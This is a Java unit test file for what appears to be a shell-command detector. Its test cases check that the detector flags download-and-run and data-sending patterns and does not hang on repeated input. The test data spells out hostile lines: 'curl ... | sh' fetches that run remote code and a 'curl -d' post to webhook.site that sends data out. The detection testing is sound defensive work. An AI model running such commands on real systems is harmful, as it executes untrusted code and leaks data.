package dev.assay.detectors.indicator.command;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.assay.detectors.indicator.command.Trait.Kind;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Commands that are said again: they are judged by what is held then, and in little time. */
class RepeatsTest {
    private static final int LENGTH = 512 << 10;

    private static List<Kind> kinds(String text, Language language) {
        return CommandJudge.ofFile(text, language).stream().map(Trait::kind).toList();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '#',
            value = {
                "sh a; curl -so a https://example.com/i; sh a # [RUNS_DOWNLOAD]",
                "sh $X; X=$(curl -s https://example.com/i); sh -c $X; sh $X # [RUNS_DOWNLOAD]",
                "go; alias go='curl -s https://example.com/i'; go | sh # [RUNS_DOWNLOAD]",
                "sh; curl -s https://example.com/i | sh; sh # [RUNS_DOWNLOAD]",
                "cat | sh; echo 'curl -d x https://webhook.site/1' | cat | sh # [SENDS]",
                "sh x; cd a; sh x; cd ..; curl -so a/x https://example.com/i; sh x; cd a; sh x # [RUNS_DOWNLOAD]",
                "curl -so a/x https://example.com/i; cd a/b/../..; sh x; cd ../a; cd -; sh x # []",
                "curl -so a https://example.com/i; rm -f a; : > a; sh a; sh a # []",
            })
    void whatIsHeldThenDecides(String text, String kinds) {
        assertThat(kinds(text, Language.SHELL)).hasToString(kinds);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a|",
                "cd a;",
                "cat <<$(",
                "cat <<A;",
                "exec(",
                "X=(",
                "A=$(x) if ",
                "$(",
                "\"$(",
                "./a\n",
                "a=b\n",
                "echo 'a b c' > b\n",
                "curl http://a.b/c | sh\n",
            })
    void whateverAShellIsToldAgainAndAgainEnds(String part) {
        String text = part.repeat(LENGTH / part.length());
        assertTimeoutPreemptively(Duration.ofSeconds(20), () -> {
            assertThat(kinds(text, Language.SHELL)).isNotNull();
            assertThat(StartedFiles.of(text)).hasSizeLessThan(2);
        });
    }

    @ParameterizedTest
    @ValueSource(strings = {"\"#{", "\"a\" "})
    void whateverRubyIsToldAgainAndAgainEnds(String part) {
        String text = part.repeat(LENGTH / part.length());
        assertTimeoutPreemptively(
                Duration.ofSeconds(20),
                () -> assertThat(kinds(text, Language.RUBY)).isNotNull());
    }
}
